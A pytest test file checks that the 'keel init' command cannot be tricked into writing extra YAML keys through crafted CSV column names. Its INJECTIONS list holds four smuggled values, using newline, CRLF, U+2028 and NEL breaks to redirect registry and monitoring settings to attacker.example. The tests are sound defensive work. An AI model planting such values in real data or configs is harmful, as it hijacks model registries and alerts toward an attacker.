"""`keel init` on hostile column names, whatever a CSV header holds.

The starter spec says only what was read.
"""

from __future__ import annotations

from pathlib import Path

import numpy as np
import pandas as pd
import pytest
import yaml
from typer.testing import CliRunner

from keel.cli.main import app

INJECTIONS = [
    "note\nregistry:\n  tracking_uri: http://attacker.example/mlflow\n#",  # the reviewed attack
    "note\r\nmonitoring: {alerts: {webhook: 'http://attacker.example/hook'}}\r\n#",
    "note\u2028registry: {tracking_uri: 'http://attacker.example'}",  # U+2028 breaks YAML lines
    "note\x85registry: {tracking_uri: 'http://attacker.example'}",  # and NEL
]


@pytest.mark.parametrize("evil", INJECTIONS, ids=["newline", "crlf", "u2028", "nel"])
def test_a_column_name_cannot_inject_yaml_into_the_starter_spec(tmp_path: Path, evil: str) -> None:
    rng = np.random.default_rng(0)
    rows = 300
    frame = pd.DataFrame(
        {
            "loan_id": np.arange(rows),
            "income": rng.normal(5e4, 1e4, rows).round(),
            evil: [f"t{i}" for i in range(rows)],
            "default": rng.integers(0, 2, rows),
        }
    )
    frame.to_csv(tmp_path / "data.csv", index=False)
    spec = tmp_path / "keel.yaml"

    made = CliRunner().invoke(
        app, ["init", str(tmp_path / "data.csv"), "--target", "default", "-o", str(spec)]
    )

    assert made.exit_code == 0, made.output
    written = yaml.safe_load(spec.read_text(encoding="utf-8"))
    assert "registry" not in written and "monitoring" not in written
    assert set(written) <= {
        "project",
        "description",
        "seed",
        "data",
        "target",
        "features",
        "contract",
        "split",
        "models",
        "tuning",
        "gates",
        "protected",
        "reasons",
        "fairness",
        "model_card",
        "reviewed",
    }
    assert evil in written["features"]["exclude"]  # the name itself is kept, verbatim, as data
    lines = spec.read_text(encoding="utf-8").split("\n")
    assert next(line for line in lines if not line.startswith("#")).startswith(
        "project:"
    )  # the header stays comment
